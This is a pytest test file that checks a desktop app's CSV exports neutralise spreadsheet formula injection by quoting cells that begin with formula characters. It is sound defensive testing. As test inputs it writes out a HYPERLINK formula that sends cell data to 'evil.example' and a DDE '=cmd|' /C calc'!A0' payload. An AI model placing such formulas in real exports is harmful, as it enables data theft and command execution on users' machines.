"""CSV exports neutralise formula injection (OWASP): a text cell that starts with ``=``, ``+``,
``-``, ``@``, TAB or CR is written with a leading ``'``, so a spreadsheet shows it as text;
numbers are written as numbers, whatever their sign."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from aibri_desktop.domain.answers import AnswerState
from aibri_desktop.exchange.csv_export import (
    ANSWER_COLUMNS,
    SCORE_COLUMNS,
    answers_csv,
    scores_csv,
)
from helpers.services import open_services

# Columns written as numbers or booleans; every other column is text.
NUMBER_COLUMNS = {"level", "overall_score", "low", "high", "coverage", "residual", "level_low",
                  "level_high", "scoring_rules"}
BOOLEAN_COLUMNS = {"carried_over", "provisional"}
ANSWER_TEXT = [c for c in ANSWER_COLUMNS if c not in NUMBER_COLUMNS | BOOLEAN_COLUMNS]
SCORE_TEXT = [c for c in SCORE_COLUMNS if c not in NUMBER_COLUMNS | BOOLEAN_COLUMNS]
LEADING = ["=", "+", "-", "@", "\t", "\r"]


def _read(data: bytes) -> list[dict[str, str]]:
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert lines[0][0].startswith("Classification: ")
    header, *rows = lines[1:]
    return [dict(zip(header, row, strict=True)) for row in rows]


def _row(columns: tuple[str, ...]) -> dict[str, Any]:
    row: dict[str, Any] = {c: f"plain {c}" for c in columns}
    row.update({c: 2 for c in NUMBER_COLUMNS & set(columns)})
    row.update({c: False for c in BOOLEAN_COLUMNS & set(columns)})
    return row


def test_the_text_columns_are_the_ones_this_test_knows() -> None:
    """A new column is either listed as a number here or tested as text below."""
    assert len(ANSWER_TEXT) == 15 and len(SCORE_TEXT) == 11


@pytest.mark.parametrize("lead", LEADING, ids=repr)
@pytest.mark.parametrize(("kind", "column"), [("answers", c) for c in ANSWER_TEXT]
                         + [("scores", c) for c in SCORE_TEXT])
def test_every_text_column_is_neutralised(kind: str, column: str, lead: str) -> None:
    columns, write = (ANSWER_COLUMNS, answers_csv) if kind == "answers" else \
        (SCORE_COLUMNS, scores_csv)
    hostile = f"{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    row = _row(columns)
    row[column] = hostile
    [read] = _read(write([row], ["RESTRICTED"]))
    assert read[column] == "'" + hostile
    others = {c: v for c, v in read.items() if c != column and c not in NUMBER_COLUMNS
              and c not in BOOLEAN_COLUMNS}
    assert all(v == f"plain {c}" for c, v in others.items()), "only hostile cells change"


@pytest.mark.parametrize("column", sorted(NUMBER_COLUMNS & set(SCORE_COLUMNS)))
def test_negative_numbers_stay_numbers(column: str) -> None:
    row = _row(SCORE_COLUMNS)
    row[column] = -12.5
    [read] = _read(scores_csv([row], []))
    assert read[column] == "-12.5"
    assert float(read[column]) == -12.5


def test_export_csv_of_a_hostile_assessment(tmp_path: Path) -> None:
    """Through the service behind ``aibri export-csv`` and the window's "Export selected as
    CSV": an assessment's title, evidence, sources and N/A reason come back as text."""
    services = open_services(tmp_path)
    try:
        created = services.assessments.create(country_code="FR", title="=1+2 Hostile",
                                              as_of=date(2026, 1, 1))
        assessment_id = created.assessment_id
        record = services.assessments.load(assessment_id)
        first, second = (i.id for i in record.framework.enabled_dimensions(record.modules)[0]
                         .indicators[:2])
        services.assessments.answer(assessment_id=assessment_id, indicator_id=first,
                                    who="tester", state=AnswerState.ANSWERED, level=2,
                                    evidence="@SUM(A1:A9)", sources="\t=cmd|' /C calc'!A0")
        services.assessments.answer(assessment_id=assessment_id, indicator_id=second,
                                    who="tester", state=AnswerState.NOT_APPLICABLE,
                                    na_reason="-2+3")
        answers, scores = tmp_path / "answers.csv", tmp_path / "scores.csv"
        services.exchange.export_csv([assessment_id], answers, scores)
    finally:
        services.close()
    rows = {r["indicator"]: r for r in _read(answers.read_bytes())}
    assert rows[first]["title"] == "'=1+2 Hostile"
    assert rows[first]["evidence"] == "'@SUM(A1:A9)"
    # the sources column holds one citation per source (the line's spaces trimmed): the
    # formula that is left still starts with a quote
    assert rows[first]["sources"] == "'=cmd|' /C calc'!A0"
    assert rows[first]["level"] == "2"
    assert rows[second]["na_reason"] == "'-2+3"
    [score] = _read(scores.read_bytes())
    assert score["title"] == "'=1+2 Hostile"


def test_the_register_csv_is_neutralised_too(tmp_path: Path) -> None:
    """The register of issued briefs, exported as CSV, with a hostile recipient."""
    import csv as csv_module

    from helpers.services import create_reference_assessment, open_services

    services = open_services(tmp_path)
    assessment_id = create_reference_assessment(services)
    services.briefs.write(assessment_id, tmp_path / "b.pdf", who="t",
                          recipient="=HYPERLINK(\"http://x\")")
    services.briefs.register_csv(tmp_path / "register.csv")
    rows = list(csv_module.reader((tmp_path / "register.csv").read_text(
        encoding="utf-8-sig").splitlines()))
    assert rows[1][rows[0].index("recipient")] == "'=HYPERLINK(\"http://x\")"
    services.close()
